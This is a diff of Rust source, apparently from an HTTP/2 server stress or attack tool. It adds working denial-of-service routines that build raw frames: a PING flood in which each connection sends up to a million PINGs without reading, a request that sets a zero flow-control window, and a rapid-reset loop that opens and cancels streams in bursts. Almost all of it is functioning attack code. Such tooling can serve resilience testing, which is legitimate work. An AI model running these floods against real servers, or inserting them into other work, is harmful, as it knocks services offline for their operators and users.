@@ -4,8 +4,8 @@ use std::net::SocketAddr;
 
 use tokio::{
     io::{AsyncReadExt, AsyncWriteExt},
-    net::TcpStream,
-    time::{Duration, Instant, timeout},
+    task::JoinSet,
+    time::{Duration, Instant, timeout, timeout_at},
 };
 
 use crate::{
@@ -19,12 +19,16 @@ pub(crate) const HALF_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n";
 const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
-/// Flag of SETTINGS.
+const PING: u8 = 6;
+/// Flag of SETTINGS and PING.
 const ACK: u8 = 1;
 /// Flag of HEADERS.
 const END_HEADERS: u8 = 4;
 /// Error code of RST_STREAM.
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
+
+/// How often a connection pings at most.
+const PINGS: usize = 1_000_000;
 
 /// How many requests are made and reset between two looks at the server's answers.
 const BURST: u32 = 100;
@@ -69,6 +73,69 @@ pub(crate) fn half_request(address: SocketAddr) -> Vec<u8> {
     [PREFACE, &settings, &headers].concat()
 }
 
+/// A whole request whose answer may have no byte, as the settings say.
+pub(crate) fn without_window(address: SocketAddr) -> Vec<u8> {
+    // SETTINGS_INITIAL_WINDOW_SIZE: 0
+    let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
+    let headers = frame(HEADERS, END_HEADERS, 1, &headers(address));
+    [PREFACE, &settings, &headers].concat()
+}
+
+/// The answers to the pings in what the server said, as far as each came in one piece.
+pub(crate) fn pongs(said: &[u8]) -> Vec<u8> {
+    let ping = frame(PING, 0, 0, &[0; 8]);
+    let (head, length) = (ping.get(..9).unwrap_or_default(), ping.len());
+    let pings = said.windows(length).filter(|part| part.starts_with(head));
+    let contents = pings.filter_map(|ping| ping.get(9..));
+    contents
+        .flat_map(|content| frame(PING, ACK, 0, content))
+        .collect()
+}
+
+/// Connections that ping as long as the server reads, and read nothing themselves.
+pub(crate) async fn pings(target: &Target, count: u32, lasting: Duration) -> anyhow::Result<Told> {
+    let mut tally = Tally::default();
+    let mut open = JoinSet::new();
+    let until = Instant::now() + lasting;
+    for _ in 0..count {
+        let mut stream = match target.raw().await {
+            Ok(stream) => stream,
+            Err(error) => {
+                tally.failed(format_args!("{error:#}"));
+                continue;
+            }
+        };
+        let opened = Instant::now();
+        let settings = frame(SETTINGS, 0, 0, &[]);
+        let burst = frame(PING, 0, 0, &[0; 8]).repeat(1_000);
+        open.spawn(async move {
+            let pinging = async {
+                stream.write_all(&[PREFACE, &settings].concat()).await?;
+                let mut sent = 0usize;
+                while sent < PINGS {
+                    stream.write_all(&burst).await?;
+                    sent = sent.saturating_add(1_000);
+                }
+                std::future::pending::<std::io::Result<()>>().await
+            };
+            match timeout_at(until, pinging).await {
+                Ok(_) => Some(opened.elapsed()),
+                Err(_) => None,
+            }
+        });
+    }
+    while let Some(ended) = open.join_next().await {
+        if let Ok(Some(after)) = ended {
+            tally.closed(after);
+        }
+    }
+    let did = format!(
+        "{count} connections that ping and do not read, {} s",
+        lasting.as_secs()
+    );
+    Ok(Told::new(did, tally.to_string()))
+}
+
 /// Opens requests and resets them at once; begins again where the server ends the connection.
 pub(crate) async fn rapid_reset(
     target: &Target,
@@ -81,7 +148,7 @@ pub(crate) async fn rapid_reset(
     while sent < count && connections < CONNECTIONS && Instant::now() < until {
         connections = connections.saturating_add(1);
         let opened = Instant::now();
-        match resets(target.address, count.saturating_sub(sent), until).await {
+        match resets(target, count.saturating_sub(sent), until).await {
             Ok((some, true)) => {
                 sent = sent.saturating_add(some);
                 tally.closed(opened.elapsed());
@@ -95,11 +162,11 @@ pub(crate) async fn rapid_reset(
 }
 
 /// How many requests one connection took, and whether the server ended it.
-async fn resets(address: SocketAddr, count: u32, until: Instant) -> anyhow::Result<(u32, bool)> {
-    let mut stream = timeout(PATIENCE, TcpStream::connect(address)).await??;
+async fn resets(target: &Target, count: u32, until: Instant) -> anyhow::Result<(u32, bool)> {
+    let mut stream = target.raw().await?;
     let settings = [frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, ACK, 0, &[])].concat();
     stream.write_all(&[PREFACE, &settings].concat()).await?;
-    let block = headers(address);
+    let block = headers(target.address);
     let (mut sent, mut id, mut said) = (0u32, 1u32, vec![0; 64 << 10]);
     while sent < count && Instant::now() < until {
         let mut burst = Vec::new();
